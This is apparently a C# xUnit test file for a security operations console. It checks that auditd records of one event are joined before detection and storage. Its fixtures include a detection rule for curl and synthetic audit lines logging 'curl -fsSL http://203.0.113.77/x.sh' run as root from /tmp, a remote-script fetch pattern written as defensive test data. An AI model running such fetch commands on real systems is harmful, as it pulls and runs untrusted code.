using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using Soc.Console.Pipeline;
using Soc.Console.Storage;
using Soc.Console.Tests.Support;
using Soc.Detection.Events;
using Soc.Detection.Parsing;

namespace Soc.Console.Tests.Ingest;

/// <summary>The center joins the records of one auditd event before detection and storage.</summary>
public sealed class AuditJoiningTests : IAsyncLifetime
{
    private const string RuleId = "6c0f3b8e-5d7a-4f43-9a51-0d4b8e2f7a10";
    private const string AuditLog = "/var/log/audit/audit.log";
    private const string SyslogLine = "<30>Nov 22 10:00:00 web01 systemd[1]: Started Session 4 of user an.";

    // Needs SYSCALL's exe and EXECVE's a1 in one event: SYSCALL's own a1 is a register, EXECVE has no exe.
    private const string Rule = $"""
        title: Test Curl Fetch Run Through Execve
        id: {RuleId}
        status: test
        author: Soc tests
        logsource:
          product: linux
          service: auditd
        detection:
          selection:
            exe: /usr/bin/curl
            a1: '-fsSL'
          condition: selection
        level: high
        """;

    private static readonly CancellationToken None = CancellationToken.None;

    private readonly string _rules = Path.Combine(Path.GetTempPath(), "soc-rules-" + Guid.NewGuid().ToString("N"));
    private CenterFixture _center = null!;
    private string _key = null!;

    public async Task InitializeAsync()
    {
        Directory.CreateDirectory(_rules);
        await File.WriteAllTextAsync(Path.Combine(_rules, "test_curl_execve.yml"), Rule);
        _center = await CenterFixture.StartAsync([_rules]);
        _key = _center.Store.AddAgency("so-tttt", "Sở Thông tin và Truyền thông", null);
    }

    public async Task DisposeAsync()
    {
        await _center.DisposeAsync();
        try
        {
            Directory.Delete(_rules, recursive: true);
        }
        catch (IOException)
        {
            // a leftover temp folder is harmless
        }
    }

    [Fact]
    public async Task RaisesOneAlertOnFieldsOfTwoRecordsAndKeepsEveryLine()
    {
        var lines = CurlExecve(DateTimeOffset.UtcNow, 8812);
        using var client = _center.Client();
        using var response = await client.SendAsync(IngestBatch.Request(_key, InterleavedBatch(lines)));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        // Six lines, two events: the answer counts events (IngestResult).
        Assert.Equal(new IngestResult(2, 2, 0, 1), await response.Content.ReadFromJsonAsync<IngestResult>());
        var alert = Assert.Single(await _center.Contract.ListAlertsAsync(new AlertFilter(null, RuleId: RuleId), None));
        Assert.Equal("audit-0", alert.EventId);
        Assert.Equal(1, alert.Count);
        Assert.Equal(2, _center.Store.CountEvents());

        var events = await _center.Contract.GetEventsAsync(["audit-0", "syslog-1"], null, None);
        var audit = Assert.Single(events, e => e.Id == "audit-0");
        var original = audit.Fields.GetProperty(EcsFields.EventOriginal).GetString()!;
        Assert.Equal(string.Join("\n", lines), original);
        var syslog = Assert.Single(events, e => e.Id == "syslog-1");
        Assert.Equal(SyslogLine, syslog.Fields.GetProperty(EcsFields.EventOriginal).GetString());
        Assert.Equal("system.syslog", syslog.Dataset);
    }

    [Fact]
    public async Task StoresNothingWhenTheSameBatchIsSentAgain()
    {
        var batch = InterleavedBatch(CurlExecve(DateTimeOffset.UtcNow, 8813));
        using var client = _center.Client();
        using var first = await client.SendAsync(IngestBatch.Request(_key, batch));
        using var again = await client.SendAsync(IngestBatch.Request(_key, batch));

        Assert.Equal(HttpStatusCode.OK, again.StatusCode);
        Assert.Equal(new IngestResult(2, 0, 2, 0), await again.Content.ReadFromJsonAsync<IngestResult>());
        Assert.Equal(2, _center.Store.CountEvents());
        Assert.Equal(1, Assert.Single(await _center.Contract.ListAlertsAsync(new AlertFilter(null, RuleId: RuleId), None)).Count);
    }

    [Fact]
    public void JoinsTwoHostsInterleavedStreamsAndKeepsTheOrderOfOtherEvents()
    {
        var at = new DateTimeOffset(2026, 11, 22, 3, 0, 0, TimeSpan.Zero);
        var a = CurlExecve(at, 500);
        var b = CurlExecve(at, 500); // same serial and time on another host: must not be mixed in
        var normalizer = new EventNormalizer();
        var batch = new List<LogEvent>
        {
            Audit(normalizer, "a0", "app01", a[0]),
            Audit(normalizer, "b0", "app02", b[0]),
            Syslog(normalizer, "s0"),
            Audit(normalizer, "a1", "app01", a[1]),
            Audit(normalizer, "b1", "app02", b[1]),
            Audit(normalizer, "b2", "app02", b[2]),
            Syslog(normalizer, "s1"),
            Audit(normalizer, "a2", "app01", a[2]),
            Audit(normalizer, "a3", "app01", a[3]),
            Audit(normalizer, "a4", "app01", a[4]),
            Audit(normalizer, "a5", "app01", Eoe(at, 500)),
            Audit(normalizer, "b3", "app02", b[3]),
            Audit(normalizer, "b4", "app02", b[4]),
        };
        var syslog0 = batch[2];
        var syslog1 = batch[6];

        var merged = AuditJoining.Join(batch);

        Assert.Equal(9, merged);
        // s0, s1 in order; app01's event completes at its EOE; app02's (no EOE) at the end of the batch.
        Assert.Equal(["s0", "s1", "a0", "b0"], batch.Select(e => e.GetString(EcsFields.EventId)));
        Assert.Same(syslog0, batch[0]);
        Assert.Same(syslog1, batch[1]);
        Assert.Equal(string.Join("\n", a.Append(Eoe(at, 500))), batch[2].GetString(EcsFields.EventOriginal));
        Assert.Equal(string.Join("\n", b), batch[3].GetString(EcsFields.EventOriginal));
        foreach (var (ev, host) in new[] { (batch[2], "app01"), (batch[3], "app02") })
        {
            Assert.Equal(host, ev.GetString(EcsFields.HostName));
            Assert.Equal("/usr/bin/curl", ev.GetString("auditd.exe"));
            Assert.Equal("-fsSL", ev.GetString("auditd.a1"));
        }
    }

    [Fact]
    public void LeavesABatchWithoutAuditRecordsUnchanged()
    {
        var normalizer = new EventNormalizer();
        var batch = new List<LogEvent>
        {
            Syslog(normalizer, "s0"),
            normalizer.Normalize(Raw("j0", "json", "web01", "/var/log/app.json", "{\"auditd\":{\"sequence\":7},\"msg\":\"not a record\"}")),
            normalizer.Normalize(Raw("f0", "auditd", "app01", AuditLog, "type=SYSCALL without a stamp")),
            Syslog(normalizer, "s1"),
        };
        var before = batch.ToArray();

        Assert.Equal(0, AuditJoining.Join(batch));
        Assert.Equal(before.Length, batch.Count);
        for (var i = 0; i < before.Length; i++)
        {
            Assert.Same(before[i], batch[i]);
        }
    }

    /// <summary>The records auditd writes to audit.log for one execve of curl (no EOE: audit.log usually has none).</summary>
    private static string[] CurlExecve(DateTimeOffset at, long serial)
    {
        var stamp = string.Create(CultureInfo.InvariantCulture, $"msg=audit({at.ToUnixTimeMilliseconds() / 1000}.{at.ToUnixTimeMilliseconds() % 1000:000}:{serial}):");
        var title = Convert.ToHexString(Encoding.UTF8.GetBytes("curl\0-fsSL\0http://203.0.113.77/x.sh"));
        return
        [
            $"type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=5617c1a9e2a0 a1=5617c1a9e3c0 a2=5617c1a9e480 a3=8 items=2 ppid=2201 pid=2250 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=5 comm=\"curl\" exe=\"/usr/bin/curl\" subj=unconfined key=\"exec\"",
            $"type=EXECVE {stamp} argc=3 a0=\"curl\" a1=\"-fsSL\" a2=\"http://203.0.113.77/x.sh\"",
            $"type=CWD {stamp} cwd=\"/tmp\"",
            $"type=PATH {stamp} item=0 name=\"/usr/bin/curl\" inode=262401 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
            $"type=PROCTITLE {stamp} proctitle={title}",
        ];
    }

    private static string Eoe(DateTimeOffset at, long serial) =>
        string.Create(CultureInfo.InvariantCulture, $"type=EOE msg=audit({at.ToUnixTimeMilliseconds() / 1000}.{at.ToUnixTimeMilliseconds() % 1000:000}:{serial}):");

    /// <summary>SYSCALL, EXECVE, a syslog line, then CWD, PATH, PROCTITLE; as a collector ships them.</summary>
    private static object[] InterleavedBatch(string[] audit) =>
    [
        Wire("audit-0", "auditd", "app02", AuditLog, audit[0]),
        Wire("audit-1", "auditd", "app02", AuditLog, audit[1]),
        Wire("syslog-1", "syslog", "web01", "tcp://127.0.0.1:5514", SyslogLine),
        Wire("audit-2", "auditd", "app02", AuditLog, audit[2]),
        Wire("audit-3", "auditd", "app02", AuditLog, audit[3]),
        Wire("audit-4", "auditd", "app02", AuditLog, audit[4]),
    ];

    private static object Wire(string id, string type, string host, string source, string message) =>
        new { id, type, host, source, received = DateTimeOffset.UtcNow, tz = "Asia/Ho_Chi_Minh", message };

    private static RawRecord Raw(string id, string type, string host, string source, string message) =>
        new(id, type, host, source, DateTimeOffset.UtcNow, RawRecord.DefaultTimeZone, message);

    private static LogEvent Audit(EventNormalizer normalizer, string id, string host, string line) =>
        normalizer.Normalize(Raw(id, "auditd", host, AuditLog, line));

    private static LogEvent Syslog(EventNormalizer normalizer, string id) =>
        normalizer.Normalize(Raw(id, "syslog", "web01", "tcp://127.0.0.1:5514", SyslogLine));
}
